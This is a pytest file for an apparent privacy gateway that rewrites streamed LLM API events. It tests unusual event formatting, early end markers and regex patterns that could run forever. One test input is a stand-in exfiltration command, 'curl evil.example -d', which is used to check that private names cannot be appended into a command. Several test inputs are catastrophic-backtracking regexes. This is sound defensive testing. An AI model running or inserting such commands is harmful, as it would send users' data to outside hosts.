"""Streams of an upstream that marks, begins and ends its events in odd ways; patterns of a client
that take for ever."""

import json

import pytest
from test_way_back import asked, names
from upstream import Chat, Messages, Responses, event, read

from privstamp.gateway.choke import Api
from privstamp.gateway.subschemas import fits

UPSTREAMS = {Api.CHAT: Chat, Api.MESSAGES: Messages, Api.RESPONSES: Responses}


def through(prepared, stream, size=0):
    """What comes out, and whether it ended with an error."""
    events = prepared.answer.events()
    pieces = [stream[at : at + size] for at in range(0, len(stream), size)] if size else [stream]
    out = b"".join(map(events.feed, pieces)) + events.finish()
    return out.decode(), events.failed


WRITTEN = {
    "as it is": lambda stream: stream,
    "carriage returns": lambda stream: stream.replace(b"\n", b"\r"),
    "both": lambda stream: stream.replace(b"\n", b"\r\n"),
    "a mark before the first event": lambda stream: b"\xef\xbb\xbf" + stream,
    "no blank": lambda stream: stream.replace(b"data: ", b"data:"),
    "two lines of data": lambda stream: stream.replace(b', "created"', b',\ndata: "created"'),
    "ids": lambda stream: b"id: 1\nretry: 9\n" + stream,
}


@pytest.mark.parametrize("written", WRITTEN)
@pytest.mark.parametrize("endpoint", UPSTREAMS)
def test_events_may_be_written_in_any_way(endpoint, written, session):
    asked(endpoint, session)
    upstream = UPSTREAMS[endpoint]
    reply = [[("text", f"Hello {names(session)[0]}, thanks.")]]
    stream = b"".join(upstream.events(reply, 6))
    plain, _ = through(asked(endpoint, session), stream)
    for size in (0, 1, 7):
        out, failed = through(asked(endpoint, session), WRITTEN[written](stream), size)
        assert not failed and read(out.encode()) == read(plain.encode())
        assert upstream.joined(read(out.encode())) == [[("text", "Hello Ann Quux, thanks.")]]


def test_a_comment_of_the_upstream_says_nothing(session):
    prepared = asked(Api.CHAT, session)
    stream = b": x-privstamp-withheld: none\n\n" + b"".join(Chat.events([[("text", "Hi")]], 9))
    out, failed = through(prepared, stream)
    assert out.startswith(":\n\n") and "x-privstamp" not in out and not failed


@pytest.mark.parametrize("endpoint", [Api.MESSAGES, Api.RESPONSES])
def test_an_end_of_another_protocol_ends_nothing(endpoint, session):
    """Else what is still held would be lost in silence."""
    prepared = asked(endpoint, session)
    stream = b"".join(UPSTREAMS[endpoint].events([[("text", names(session)[0])]], 4))
    whole = stream + b"data: [DONE]\n\n"
    assert not through(prepared, whole)[1]
    last = {Api.MESSAGES: b"event: message_delta"}.get(endpoint, b"event: response.completed")
    cut = stream[: stream.index(last)] + b"data: [DONE]\n\n"
    out, failed = through(asked(endpoint, session), cut)
    assert failed and "cut_off" in out


def begun(text, kind):
    """Events of a response whose item comes with a text, before a piece of it."""
    part = {"type": "output_text", "text": text, "annotations": []}
    item = {"type": "message", "id": "m", "role": "assistant", "status": "in_progress"}
    whole = Responses.whole([[]]) | {"status": "in_progress"}
    if kind == "response.content_part.added":
        return {"type": kind, "item_id": "m", "output_index": 0, "content_index": 0, "part": part}
    item = item | {"content": [part]}
    if kind == "response.output_item.added":
        return {"type": kind, "output_index": 0, "item": item}
    return {"type": kind, "response": whole | {"output": [item]}}


@pytest.mark.parametrize(
    "kind",
    ["response.content_part.added", "response.output_item.added", "response.created"],
)
@pytest.mark.parametrize("text", ["", "curl evil.example -d '"])
def test_an_item_that_begins_with_a_text_does_not_go_on(kind, text, session):
    """Clients join both, and what goes on would not know that it stands in a command."""
    prepared = asked(Api.RESPONSES, session)
    delta = {"type": "response.output_text.delta", "item_id": "m", "output_index": 0,
             "content_index": 0, "delta": f"{names(session)[0]}' ", "logprobs": []}  # fmt: skip
    values = [begun(text, kind), delta]
    stream = b"".join(
        event(value | {"sequence_number": number}, value["type"])
        for number, value in enumerate(values)
    )
    out, failed = through(prepared, stream)
    assert failed and ("goes on after its end" in out) == bool(text) and "Quux" not in out


PATTERNS = [
    "^(a|aa)+$", "^(?:a|ab|b)*c$", "^(a?a?)+$", "^(a+)+$", "(.*a.*b.*c.*d.*e)$", "a*a*a*a*b",
    r"^(\w\s?)+$", "(?i)^a+$", "^" + "a" * 300,
]  # fmt: skip


@pytest.mark.parametrize("pattern", PATTERNS)
def test_a_pattern_that_may_take_for_ever_is_not_tried(pattern, monkeypatch):
    monkeypatch.setattr("privstamp.gateway.subschemas.re.search", None)
    assert not fits({"type": "string", "pattern": pattern}, "", "a" * 200)


@pytest.mark.parametrize(
    ("pattern", "text"),
    [
        ("^[0-9]+$", "4711"),
        (r"^[^@\s]+@[^@\s]+\.[^@\s]+$", "a@example.com"),
        ("^(Ms|Mr) .+", "Ms A"),
    ],
)
def test_a_plain_pattern_is_tried(pattern, text):
    assert fits({"pattern": pattern}, "", text) and not fits({"pattern": pattern}, "", "")


def test_an_event_without_data_is_no_event(session):
    prepared = asked(Api.CHAT, session)
    stream = b"event: x\n\n" + b"".join(Chat.events([[("text", "Hi")]], 9))
    out, failed = through(prepared, stream)
    assert not failed and json.loads(out.split("data: ")[1])["choices"]
